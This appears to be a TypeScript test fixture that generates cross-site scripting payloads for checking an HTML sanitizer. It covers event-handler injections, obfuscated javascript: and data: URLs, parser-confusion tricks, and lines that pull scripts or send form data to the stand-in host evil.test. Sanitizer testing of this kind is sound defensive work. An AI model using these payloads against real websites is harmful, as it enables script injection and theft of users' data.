/** Ways in which a text has become a program, in somebody's product. */
const code = 'alert(1)'
const events = ['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter', 'onwheel']
const tags = ['img', 'svg', 'body', 'video', 'audio', 'details', 'input', 'marquee', 'iframe', 'object', 'embed', 'math', 'form', 'button', 'select', 'p', 'h1', 'li', 'mark', 'strong']
const schemes = ['javascript:', 'JaVaScRiPt:', ' javascript:', 'java\tscript:', 'java\nscript:', '&#106;avascript:', '&#x6A;avascript:', 'data:text/html,<script>', 'vbscript:', 'data:image/svg+xml,<svg onload=alert(1)>']

export const scriptPayloads: string[] = [
  ...tags.flatMap((tag) => events.slice(0, 6).map((event) => `<${tag} src=x ${event}=${code}>x`)), ...events.map((event) => `<p ${event}="${code}">x</p>`),
  ...schemes.flatMap((scheme) => [`<a href="${scheme}${code}">x</a>`, `<iframe src="${scheme}${code}"></iframe>`, `<p style="background:url(${scheme}${code})">x</p>`]),
  '<script>alert(1)</script>', '<SCRIPT SRC=//evil.test/x.js></SCRIPT>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script/src=data:,alert(1)>', '<script\n>alert(1)</script\n>', '<script>', '</script><script>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>', '<title><img title="</title><img src onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  '<xmp><img src=x onerror=alert(1)></xmp>', '<plaintext><script>alert(1)</script>', '<!--><img src=x onerror=alert(1)>-->', '<!-- --!><img src=x onerror=alert(1)> -->', '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<p style="text-align: center; background: url(javascript:alert(1))">x</p>', '<p style="text-align:expression(alert(1))">x</p>', '<p style="text-align: center" onclick="alert(1)">x</p>', '<p style="TEXT-ALIGN: left;;x:y">x</p>', '<h4 style="text-align: left">x</h4>',
  '<p class="x" id="y" data-z="1">x</p>', '<base href="https://evil.test/">', '<meta http-equiv=refresh content="0;url=https://evil.test/">', '<link rel=stylesheet href=https://evil.test/a.css>', '<form action=https://evil.test/><input name=a></form>', '<img src=https://evil.test/pixel.gif>',
  '<a href="https://evil.test/">x</a>', '<p>\u0000<script\u0000>alert(1)</script></p>', '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>', '&#60;script&#62;alert(1)&#60;/script&#62;', '<img """><script>alert("1")</script>">', '<<script>alert(1)//<</script>', '<p/onclick=alert(1)>x', '<p\u000conclick=alert(1)>x',
  '<style>@import "https://evil.test/a.css"</style>', '<object data="javascript:alert(1)"></object>', '<embed src="javascript:alert(1)">', '<isindex action=javascript:alert(1) type=image>', '<details open ontoggle=alert(1)>', '<dialog open onclose=alert(1)>', '<slot onslotchange=alert(1)>', '<custom-tag onclick=alert(1)>x</custom-tag>',
  `${'<p>'.repeat(500)}x`, `${'<ul><li>'.repeat(200)}x`, '<p><p><p>', '</p></p>x', '<p', '<', '>', '<p>a<b>b<i>c</b>d</i></p>', 'a & b &amp; c &nbsp; d', '\u202Ea\u202C', '<p>😀 é 𝒜</p>',
]
